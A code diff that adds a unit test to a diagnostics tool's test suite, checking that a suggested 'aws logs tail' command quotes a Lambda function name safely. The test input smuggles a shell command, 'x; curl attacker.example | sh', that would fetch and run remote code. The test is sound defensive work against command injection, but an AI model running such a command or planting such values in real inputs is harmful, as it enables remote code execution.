@@ -34,6 +34,14 @@ describe("a row of the doctor's table", () => {
     }
   });
 
+  it("names a function in a command so that a shell takes it for one word, whatever a description calls it", () => {
+    const details = { functionName: "x; curl attacker.example | sh", secret: "token" };
+    const { next } = found("token-absent", { environment: "qualif" }, details);
+    for (const language of LANGUAGES) {
+      expect(next[language]).toContain("`aws logs tail '/aws/lambda/x; curl attacker.example | sh' --since 15m`");
+    }
+  });
+
   it("names in its commands what has to be named, and nothing else", () => {
     const place = { environment: "qualif", application: "facturation", account: "client-a" } as const;
     expect(found("account-empty", place, {}).next.en).toContain(
